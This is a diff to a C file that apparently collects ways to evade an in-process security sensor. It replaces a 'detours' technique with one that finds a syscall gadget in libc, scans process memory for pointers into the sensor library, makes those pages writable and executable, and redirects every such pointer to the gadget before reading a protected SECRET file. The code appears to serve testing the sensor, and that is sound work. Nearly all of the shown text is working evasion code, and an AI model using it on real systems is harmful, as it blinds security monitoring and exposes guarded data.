@@ -193,21 +193,42 @@ static void state_wiped_in_child(void)
 	}
 }
 
-/* The detours all go by one address; that of an untouched instruction of libc takes its place. */
-static void detours_written(void)
+static int is_special(const char *line)
 {
-	uintptr_t from, to, libc_from, libc_to, gadget = 0;
-	FILE *maps = fopen("/proc/self/maps", "r");
+	return strstr(line, "[v") || strstr(line, "[stack") || strstr(line, "[heap") || strstr(line, "/opt/programs");
+}
 
-	if (!find_mapping("libc.so", "r-xp", &libc_from, &libc_to))
-		return;
-	for (uintptr_t at = libc_from; at + 3 < libc_to && !gadget; at++)
-		if (memcmp((const void *)at, "\x0f\x05\xc3", 3) == 0)
-			gadget = at;
-	while (next_mapping(maps, " 00:00 0 ", "r-xp", &from, &to))
-		if (mprotect((void *)from, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) == 0 &&
-		        memcmp((const void *)from, "\xff\x25", 2) == 0)
-			memcpy((void *)(from + 6), &gadget, sizeof(gadget));
+/* The detours go by pointers into the sensor's code; an untouched instruction of libc takes the place of all of them. */
+static void detours_led_elsewhere(void)
+{
+	uintptr_t from, to, code_from, code_to, gadget = 0;
+	FILE *maps = fopen("/proc/self/maps", "r");
+	int fd = memfd_create("gadget", 0);
+	char line[512];
+
+	while (!gadget && next_mapping(maps, "libc.so", "r-xp", &from, &to))
+		for (uintptr_t at = from; at + 3 < to && !gadget; at++)
+			if (memcmp((const void *)at, "\x0f\x05\xc3", 3) == 0)
+				gadget = at;
+	rewind(maps);
+	if (!find_mapping("libgambeson", "r-xp", &code_from, &code_to))
+		gadget = 0;
+	(void)!write(fd, &gadget, sizeof(gadget));
+	while (gadget && fgets(line, sizeof(line), maps)) {
+		if (sscanf(line, "%lx-%lx", &from, &to) != 2 || is_special(line) || !strchr(line, 'r') ||
+		        strstr(line, "---p"))
+			continue;
+		for (uintptr_t at = from; at < to; at += 8) {
+			uintptr_t value = 0;
+
+			if (pwrite(fd, (const void *)at, 8, 8) != 8 || pread(fd, &value, 8, 8) != 8)
+				break;
+			if (value < code_from || value >= code_to)
+				continue;
+			(void)!mprotect((void *)(at & ~4095ul), 4096, PROT_READ | PROT_WRITE | PROT_EXEC);
+			(void)syscall(SYS_pread64, fd, at, sizeof(gadget), 0);
+		}
+	}
 	show_file(SECRET);
 }
 
@@ -313,7 +334,7 @@ static const struct technique techniques[] = {
         {"state-emptied", state_emptied},
         {"state-madvise", state_given_back},
         {"state-wiped", state_wiped_in_child},
-        {"detours", detours_written},
+        {"detours", detours_led_elsewhere},
         {"sibling-writev", sibling_by_vm_writev},
         {"sibling-mem", sibling_by_mem},
         {"sibling-ptrace", sibling_by_ptrace},
